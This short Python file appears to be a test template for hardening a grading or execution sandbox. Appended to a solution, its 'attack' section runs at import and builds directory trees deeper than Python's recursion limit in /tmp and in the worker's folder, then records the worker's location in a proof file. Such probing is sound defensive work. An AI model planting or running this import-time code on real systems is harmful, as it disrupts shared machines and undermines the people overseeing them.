#@include solution

# --- attack: at import, folders nested far deeper than Python's recursion limit, in the shared
# /tmp (@DEPTH_TMP@ deep) and in the worker's own folder (@DEPTH_HOME@ deep), made relative to
# descriptors so that no path is ever long; the worker's folder is written to @PROOF@
import os as _os


def _nest(base, depth, name="@NAME@"):
    try:
        fd = _os.open(base, _os.O_RDONLY)
    except OSError:
        return
    try:
        for _ in range(depth):
            try:
                _os.mkdir(name, dir_fd=fd)
            except FileExistsError:
                pass
            inner = _os.open(name, _os.O_RDONLY, dir_fd=fd)
            _os.close(fd)
            fd = inner
    except OSError:
        pass
    finally:
        _os.close(fd)


_nest("/tmp", int("@DEPTH_TMP@"))
_nest(_os.getcwd(), int("@DEPTH_HOME@"))
try:
    with open(_os.path.join("@PROOF@", "home-" + str(_os.getpid())), "w") as _f:
        _f.write(_os.getcwd())
except OSError:
    pass
